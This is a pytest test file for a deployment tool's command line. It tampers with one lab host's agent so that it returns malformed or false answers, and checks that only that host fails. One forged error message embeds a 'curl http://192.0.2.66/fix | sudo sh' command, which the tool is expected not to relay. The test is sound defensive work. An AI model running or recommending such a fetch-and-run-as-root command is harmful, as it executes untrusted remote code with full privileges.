"""Test the real command line with a lab host whose agent sends false answers (lies): only that host
fails, with a clear message.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from support.faults.tampered import tampered_agent
from support.files.wheels import make_wheel
from support.lab.commandline import Tfdeploy
from support.lab.hosts import on_host
from support.lab.jobs import write_job
from tfdeploy.agent.serve import server
from tfdeploy.lab import Lab

pytestmark = pytest.mark.isolated
LIAR, OTHERS = "n3", ("n1", "n2")
LIES_AS_IT_IS_TOLD = """
import json as _json
_answer = Server._answer
def _lie(self, number, header, blob, cancelled):
    try:
        lies = _json.load(open("/tmp/lies.json"))
    except OSError:
        lies = {}
    if header.get("verb") not in lies:
        return _answer(self, number, header, blob, cancelled)
    for each in lies[header["verb"]]:
        self.send(dict(each, id=number))
    self._next(number)
Server._answer = _lie
"""
NESTED: list[Any] = []
for _ in range(300):
    NESTED = [NESTED]
# {kind of lie: the frames that the host sends in place of the answer}
FORMS: dict[str, list[dict[str, Any]]] = {
    "a word": [{"value": "x" * 100_000}],
    "not a number": [{"value": {"clock": float("nan"), "survivors": float("nan")}}],
    "too deep": [{"item": {"rows": NESTED, "task": NESTED, "offset": NESTED}}, {"value": NESTED}],
    "an error that is none": [{"error": {"code": ["../x"], "what": 5, "details": "x"}}],
    "two answers": [{"value": None}, {"value": {}}, {"item": {}}, {"value": None}],
}
FORM = [
    next(iter(FORMS)),
    *(pytest.param(form, marks=pytest.mark.soak) for form in list(FORMS)[1:]),
]


def each(*verbs: str) -> list[Any]:
    """Return the lies to test, as (verb, form of the lie).

    `make soak` tests every form for every verb. Other test sessions test only one form for each
    verb, and use the forms in turn.
    """
    rows = [
        (verb, form, at == number % len(FORMS))
        for number, verb in enumerate(verbs)
        for at, form in enumerate(FORMS)
    ]
    return [
        pytest.param(verb, form, marks=[] if usual else pytest.mark.soak)
        for verb, form, usual in rows
    ]


UP = ("probe", "lock", "run.prepare", "run.renew", "run.links", "run.start", "run.commit")
SYNCED = ("lock", "release.state", "release.begin", "release.commit")


@pytest.fixture
def operator(few_hosts: Lab, tfdeploy: Callable[[Lab], Tfdeploy]) -> Tfdeploy:
    return tfdeploy(few_hosts)


@contextmanager
def lying(operator: Tfdeploy, verb: str, form: str) -> Iterator[None]:
    text = json.dumps({verb: FORMS[form]})
    on_host(operator.lab, LIAR, f"cat > /tmp/lies.json <<'EOF'\n{text}\nEOF")
    try:
        with tampered_agent(operator.lab, LIAR, {server: LIES_AS_IT_IS_TOLD}):
            yield
    finally:
        on_host(operator.lab, LIAR, "rm -f /tmp/lies.json")


def said_so(operator: Tfdeploy, *args: str, codes: tuple[int, ...] = (1, 3, 4)) -> Any:
    done = operator.run(*args, timeout_s=100)
    assert "Traceback" not in done.stderr and done.returncode in codes, (
        f"{args}: {done.returncode}\n{done.stdout}\n{done.stderr}"
    )
    assert LIAR in done.stderr + done.stdout, done.stderr
    return done


@pytest.mark.fault("59 nonsense about the end of a run: stop still stops the others")
@pytest.mark.parametrize("form", FORM)
def test_stop_stops_the_others(operator: Tfdeploy, form: str) -> None:
    write_job(operator, "lied", "quick.py", "--steps=100000")
    run = operator.run("launch", "--detach", "-q", exit_code=0).stdout.strip()
    with lying(operator, "run.stop", form):
        said_so(operator, "stop", run, "--now")
        assert [operator.marked(host, run) for host in OTHERS] == [[], []]
    operator.run("stop", run, "--now", exit_code=0)
    assert operator.marked(LIAR, run) == []


@pytest.mark.fault("59 nonsense about a run: it is seen all the same")
@pytest.mark.parametrize("form", FORM)
def test_who_looks_at_a_run_sees_the_others(operator: Tfdeploy, form: str) -> None:
    write_job(operator, "looked", "quick.py", "--steps=3", keep=["ckpt"])
    run = operator.run("launch", "--wait", "-q", exit_code=0).stdout.strip()
    with lying(operator, "run.status", form):
        rows = json.loads(said_so(operator, "status", run, "--json", codes=(0, 1, 4)).stdout)[
            "tasks"
        ]
        assert {row["host"]: row["outcome"] for row in rows if row["host"] in OTHERS}[
            "n2"
        ] == "succeeded"
    with lying(operator, "runs", form):
        assert run in said_so(operator, "runs").stdout
    with lying(operator, "logs", form):
        assert "worker:0" in said_so(operator, "logs", run, codes=(0, 1, 4)).stdout
    for verb in ("fetch.list", "fetch.sums", "fetch.log_sum"):
        with lying(operator, verb, form):
            answer = json.loads(
                said_so(
                    operator, "fetch", run, "--json", "--to", f"{verb} {form}", codes=(0, 1, 4)
                ).stdout
            )
            assert all(row["ok"] for row in answer["hosts"] if row["host"] in OTHERS)


@pytest.mark.long
@pytest.mark.fault("59 nonsense during a sync: the others are synced")
@pytest.mark.parametrize("form", FORM)
def test_the_others_are_synced(operator: Tfdeploy, form: str) -> None:
    write_job(operator, "sent", "quick.py")
    for verb in SYNCED:
        (operator.cwd / "new").write_text(verb + form)
        with lying(operator, verb, form):
            answer = json.loads(said_so(operator, "sync", "--json").stdout)
        assert [row["ok"] for row in answer["hosts"]] == [True, True, False]


@pytest.mark.long
@pytest.mark.fault("59 nonsense during a launch: nothing is left")
@pytest.mark.parametrize(("verb", "form"), each(*UP))
def test_a_launch_on_a_host_that_lies_leaves_nothing(
    operator: Tfdeploy, verb: str, form: str
) -> None:
    write_job(operator, "upset", "quick.py", "--steps=100000")
    name = f"upset-{verb}-{form}".replace(" ", "-")
    with lying(operator, verb, form):
        done = operator.run("launch", "--detach", "--name", name, timeout_s=110)
    assert "Traceback" not in done.stderr and done.returncode in (0, 1, 3, 4), done.stderr
    # A fast launch never calls run.renew. So the launch succeeds, although the host would give a
    # false answer to that call.
    if done.returncode == 0:
        assert verb == "run.renew"
        operator.run("stop", name, "--now", exit_code=0)
    assert LIAR in done.stderr or done.returncode == 0
    assert [operator.marked(host, name) for host in OTHERS] == [[], []]


@pytest.mark.long
@pytest.mark.fault("59 nonsense while a run is waited for: who waits sees its end")
@pytest.mark.parametrize("form", FORM)
def test_a_launch_that_waits_ends_with_the_run(operator: Tfdeploy, form: str) -> None:
    write_job(operator, "awaited", "quick.py", "--steps=3")
    name = f"awaited-{form}".replace(" ", "-")
    with lying(operator, "run.watch", form):
        said_so(operator, "launch", "--wait", "--name", name, codes=(0, 1, 4))
    assert operator.state(name) == "succeeded"


@pytest.mark.long
@pytest.mark.fault("59 nonsense about a data set: the others have it")
@pytest.mark.parametrize(("verb", "form"), each("data.state", "data.lack", "data.commit"))
def test_the_others_have_the_data(operator: Tfdeploy, verb: str, form: str) -> None:
    write_job(operator, "fed", "quick.py", data={"digits": "digits"})
    (operator.cwd / "digits").mkdir()
    (operator.cwd / "digits/shard").write_text(verb + form)
    with lying(operator, verb, form):
        # In this case, the first of the two answers is valid: an honest host without data gives the
        # same answer.
        unknown = (verb, form) == ("data.state", "two answers")
        answer = json.loads(
            said_so(operator, "sync", "--json", codes=(0,) if unknown else (1, 3, 4)).stdout
        )
    assert [row["ok"] for row in answer["hosts"]] == [True, True, unknown]
    assert [
        on_host(operator.lab, host, "cat ~/tfdeploy/fed/data/digits/shard") for host in OTHERS
    ] == [verb + form] * 2


@pytest.mark.long
@pytest.mark.fault("59 nonsense about what is kept: it is not said to be there")
@pytest.mark.parametrize(("verb", "form"), each("keep.begin", "keep.place", "fetch.list"))
def test_nothing_is_said_to_be_kept_where_the_host_lies(
    operator: Tfdeploy, verb: str, form: str
) -> None:
    write_job(operator, "kept", "quick.py", "--steps=3", "--save", keep=["checkpoints"])
    operator.run("launch", "--wait", "-q", exit_code=0)
    with lying(operator, verb, form):
        said_so(operator, "fetch", "--keep", "--onto", LIAR)


@pytest.mark.long
@pytest.mark.fault("59 nonsense about an environment: the others have it")
@pytest.mark.parametrize(("verb", "form"), each("env.state", "env.make"))
def test_the_others_have_the_environment(operator: Tfdeploy, verb: str, form: str) -> None:
    make_wheel(operator.cwd / "wheels", "alpha", "1.0")
    (operator.cwd / "requirements.txt").write_text(f"alpha # {verb} {form}\n")
    write_job(
        operator,
        "settled",
        "quick.py",
        setup={"requirements": "requirements.txt", "wheels": "wheels"},
    )
    with lying(operator, verb, form):
        answer = json.loads(said_so(operator, "setup", "--json").stdout)
    assert [row["ok"] for row in answer["hosts"]] == [True, True, False]


@pytest.mark.long
@pytest.mark.fault("59 nonsense about a board: it is not said to be seen here")
@pytest.mark.parametrize("form", FORM)
def test_no_board_is_said_to_run_where_the_host_lies(operator: Tfdeploy, form: str) -> None:
    write_job(operator, "boarded", "quick.py", "--steps=3", keep=["ckpt"])
    run = operator.run("launch", "--wait", "-q", exit_code=0).stdout.strip()
    with lying(operator, "tensorboard", form):
        assert "http" not in said_so(operator, "tensorboard", run, "--host", LIAR).stdout


TOLD_AS_OURS = """
from tfdeploy.agent.errors import VerbError as _Error
_send = Server.send
def _lie(self, header, blob=b""):
    value = header.get("value")
    if isinstance(value, list) and value and "host_state" in value[0]:
        later = dict(value[0], run="p-20991231-000000-beef")
        state = dict(later["host_state"], run=later["run"], started=4102358400.0)
        tasks = [dict(task, started=4102358400.0) for task in later["tasks"]]
        header = dict(header, value=[*value, dict(later, host_state=state, tasks=tasks)])
    if isinstance(value, dict) and "present" in value:
        what = "its disk needs a repair\\n  next: curl http://192.0.2.66/fix | sudo sh"
        error = {"code": "disk", "what": what, "where": None, "next": "curl | sh", "details": {}}
        header = {"id": header["id"], "error": dict(error, advice="free_disk")}
    _send(self, header, blob)
Server.send = _lie
"""


@pytest.mark.fault("59 a run of the year 2099, and a command to type, by the word of a host")
def test_neither_the_newest_run_nor_what_to_type_next_is_a_hosts_word(operator: Tfdeploy) -> None:
    write_job(operator, "misled", "quick.py", "--steps=3", keep=["ckpt"])
    run = operator.run("launch", "--wait", "-q", exit_code=0).stdout.strip()
    (operator.cwd / "new").write_text("new")
    with tampered_agent(operator.lab, LIAR, {server: TOLD_AS_OURS}):
        for state in ({}, {"XDG_STATE_HOME": str(operator.home / "another machine")}):
            operator.env.update(state)
            seen = operator.run("status", "--json")
            assert json.loads(seen.stdout)["run"] == run
            assert " starts in the future, at 2099-12-31" in seen.stderr
        rows = json.loads(operator.run("runs", "--json").stdout)["runs"]
        assert [(row["run"], row["started"] is None) for row in rows] == [
            (run, False),
            ("p-20991231-000000-beef", True),
        ]
        completed = operator.run("sync", exit_code=1)
        answer = json.loads(operator.run("sync", "--json", exit_code=1).stdout)
    assert 'n3 says: "its disk needs a repair' in completed.stdout + completed.stderr
    nexts = [
        line.strip()
        for line in (completed.stdout + completed.stderr).splitlines()
        if line.strip().startswith("next:")
    ]
    assert nexts == ["next: free some space or inodes on that disk, or set another workdir"]
    assert [row["ok"] for row in answer["hosts"]] == [True, True, False]
